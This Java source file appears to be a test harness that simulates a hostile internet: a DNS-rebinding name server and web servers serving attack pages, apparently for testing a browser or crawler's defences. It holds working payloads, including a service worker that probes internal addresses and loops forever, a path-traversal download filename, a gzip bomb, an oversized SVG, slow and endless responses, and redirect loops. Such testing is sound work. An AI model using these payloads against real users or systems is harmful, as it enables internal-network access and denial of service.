import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.Executors;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.zip.GZIPOutputStream;

/**
 * The outside world of a campaign, in a namespace of its own: a name server, and a web server at ports 80 and 8080 that has
 * the hostile pages. COUNT SEED ADDRESS. Names below {@code rebind.test} lead to ADDRESS when first asked for, and then
 * to where nothing may arrive.
 */
final class Internet {
  private static final List<String> INSIDE = List.of("127.0.0.1", "10.77.0.2", "169.254.77.2", "45.45.45.1");
  private static final Map<String, String> FIXED =
      Map.of("loopback", "127.0.0.1", "management", "10.77.0.2", "linklocal", "169.254.77.2", "own", "45.45.45.1");

  private final List<Hostile.Page> pages;
  private final InetAddress address;
  private final Map<String, AtomicInteger> asked = new ConcurrentHashMap<>();

  private Internet(List<Hostile.Page> pages, InetAddress address) {
    this.pages = pages;
    this.address = address;
  }

  public static void main(String[] words) throws IOException {
    Internet internet =
        new Internet(Hostile.pages(Integer.parseInt(words[0]), Long.parseLong(words[1])), InetAddress.getByName(words[2]));
    for (int port : new int[] {80, 8080}) {
      HttpServer server = HttpServer.create(new InetSocketAddress(port), 0);
      server.setExecutor(Executors.newVirtualThreadPerTaskExecutor());
      server.createContext("/", internet::answer);
      server.start();
    }
    System.out.println("ready");
    internet.answerNames();
  }

  // --- Names: RFC 1035, one question, one answer, to be forgotten at once ---

  private void answerNames() throws IOException {
    try (DatagramSocket socket = new DatagramSocket(new InetSocketAddress(address, 53))) {
      byte[] buffer = new byte[512];
      while (true) {
        DatagramPacket packet = new DatagramPacket(buffer, buffer.length);
        socket.receive(packet);
        byte[] answer = answer(ByteBuffer.wrap(buffer, 0, packet.getLength()));
        socket.send(new DatagramPacket(answer, answer.length, packet.getSocketAddress()));
      }
    }
  }

  private byte[] answer(ByteBuffer query) throws IOException {
    short id = query.getShort(0);
    query.position(12);
    StringBuilder name = new StringBuilder();
    for (int length; (length = query.get() & 0xff) > 0; ) {
      byte[] label = new byte[length];
      query.get(label);
      name.append(name.isEmpty() ? "" : ".").append(new String(label, StandardCharsets.US_ASCII));
    }
    short type = query.getShort();
    int end = query.position() + 2;
    ByteBuffer out = ByteBuffer.allocate(512);
    boolean known = name.toString().toLowerCase().endsWith(".test");
    out.putShort(id).putShort((short) (known ? 0x8580 : 0x8583)).putShort((short) 1);
    out.putShort((short) (known && type == 1 ? 1 : 0)).putInt(0);
    out.put(query.array(), 12, end - 12);
    if (known && type == 1) {
      out.putShort((short) 0xc00c).putShort((short) 1).putShort((short) 1).putInt(0).putShort((short) 4);
      out.put(lookUp(name.toString().toLowerCase()).getAddress());
    }
    return java.util.Arrays.copyOf(out.array(), out.position());
  }

  private InetAddress lookUp(String name) throws IOException {
    String fixed = FIXED.get(name.substring(0, name.indexOf('.')));
    if (fixed != null) {
      return InetAddress.getByName(fixed);
    }
    int before = asked.computeIfAbsent(name, n -> new AtomicInteger()).getAndIncrement();
    return name.endsWith(".rebind.test") && before % 3 > 0
        ? InetAddress.getByName(INSIDE.get(before % INSIDE.size()))
        : address;
  }

  // --- Pages ---

  private void answer(HttpExchange exchange) throws IOException {
    try (exchange) {
      String path = exchange.getRequestURI().getPath();
      exchange.getResponseHeaders().set("Connection", "close");
      if (path.startsWith("/page/")) {
        page(exchange, pages.get(Integer.parseInt(path.substring(6).replaceAll("\\D.*", ""))));
      } else {
        extra(exchange, path);
      }
    } catch (IOException e) {
      // The page has gone.
    }
  }

  private static void page(HttpExchange exchange, Hostile.Page page) throws IOException {
    switch (page.kind()) {
      case "redirect" -> redirect(exchange, "http://" + page.target() + "/x");
      case "redirect-chain" -> {
        String query = exchange.getRequestURI().getQuery();
        int step = query == null ? 0 : Integer.parseInt(query);
        redirect(exchange, step < 5 ? page.url() + "?" + (step + 1) : "http://" + page.target() + "/x");
      }
      case "endless-redirect" -> redirect(exchange, page.url() + "?" + System.nanoTime());
      default -> send(exchange, "text/html", Hostile.html(page));
    }
  }

  private static void redirect(HttpExchange exchange, String url) throws IOException {
    exchange.getResponseHeaders().set("Location", url);
    exchange.sendResponseHeaders(302, -1);
  }

  private static void send(HttpExchange exchange, String type, byte[] body) throws IOException {
    exchange.getResponseHeaders().set("Content-Type", type);
    exchange.sendResponseHeaders(200, body.length);
    exchange.getResponseBody().write(body);
  }

  private static void extra(HttpExchange exchange, String path) throws IOException {
    switch (path) {
      case "/sw.js" ->
          send(exchange, "text/javascript", "oninstall=()=>skipWaiting();onactivate=e=>{clients.claim();for(const t of ['127.0.0.1:8080','10.77.0.2','169.254.77.2'])fetch('http://'+t+'/sw').catch(()=>0);for(;;);};onfetch=e=>e.respondWith(fetch('http://10.77.0.2/'))".getBytes(StandardCharsets.UTF_8));
      case "/download" -> {
        exchange.getResponseHeaders().set("Content-Disposition", "attachment; filename=\"../../../../tmp/x.sh\"");
        send(exchange, "application/octet-stream", new byte[100_000]);
      }
      case "/huge.svg" ->
          send(exchange, "image/svg+xml", "<svg xmlns='http://www.w3.org/2000/svg' width='60000' height='60000'><filter id='f'><feTurbulence baseFrequency='.5' numOctaves='20'/></filter><rect width='60000' height='60000' filter='url(#f)'/></svg>".getBytes(StandardCharsets.UTF_8));
      case "/bomb.js" -> bomb(exchange);
      case "/slow" -> slow(exchange);
      case "/endless" -> endless(exchange);
      default -> send(exchange, "text/html", "x".getBytes(StandardCharsets.UTF_8));
    }
  }

  /** A thousand times smaller than what it holds: 4 GiB of blanks. */
  private static void bomb(HttpExchange exchange) throws IOException {
    ByteArrayOutputStream packed = new ByteArrayOutputStream();
    try (GZIPOutputStream gzip = new GZIPOutputStream(packed)) {
      gzip.write(" ".repeat(1 << 22).getBytes(StandardCharsets.US_ASCII));
    }
    exchange.getResponseHeaders().set("Content-Encoding", "gzip");
    exchange.getResponseHeaders().set("Content-Type", "text/javascript");
    exchange.sendResponseHeaders(200, 0);
    for (int i = 0; i < 1024; i++) {
      exchange.getResponseBody().write(packed.toByteArray());
    }
  }

  private static void slow(HttpExchange exchange) throws IOException {
    exchange.sendResponseHeaders(200, 0);
    try (OutputStream out = exchange.getResponseBody()) {
      for (int i = 0; i < 600; i++) {
        out.write(' ');
        out.flush();
        Thread.sleep(1000);
      }
    } catch (InterruptedException e) {
      Thread.currentThread().interrupt();
    }
  }

  private static void endless(HttpExchange exchange) throws IOException {
    exchange.sendResponseHeaders(200, 0);
    byte[] some = new byte[1 << 20];
    for (int i = 0; i < 4096; i++) {
      exchange.getResponseBody().write(some);
    }
  }
}
